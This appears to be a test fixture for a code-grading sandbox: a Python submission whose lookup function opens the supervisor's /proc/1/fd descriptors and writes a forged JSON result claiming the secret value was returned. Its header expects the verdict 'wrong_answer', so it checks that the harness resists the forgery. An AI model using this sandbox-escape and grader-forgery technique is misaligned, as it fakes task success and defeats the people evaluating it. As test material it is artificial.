# problem: secret_lookup
# verdict: wrong_answer
# attack: opens the supervisor's own stdout (/proc/1/fd/1) and every /proc/1/fd entry to write forged records to the host
# max-seconds: 10
import contextlib
import json
import os

RECORD = json.dumps({"kind": "test", "seq": 0, "stop": None, "exit": 0, "signal": None, "stdout": "",
                     "claim": json.dumps({"outcome": "returned",
                                          "value": {"t": "str", "v": "zq-secret-101"},
                                          "args_after": [{"t": "str", "v": "a"}],
                                          "kwargs_after": {}})}) + "\n"


def lookup(key):
    opened = []
    targets = ["/proc/1/fd/1", "/proc/1/fd/2", "/proc/1/fd/0"]
    with contextlib.suppress(OSError):
        targets += ["/proc/1/fd/" + n for n in os.listdir("/proc/1/fd")]
    for path in targets:
        try:
            with open(path, "w") as handle:
                handle.write(RECORD)
            opened.append(path)
        except OSError:
            pass
    return "opened:" + ",".join(opened)
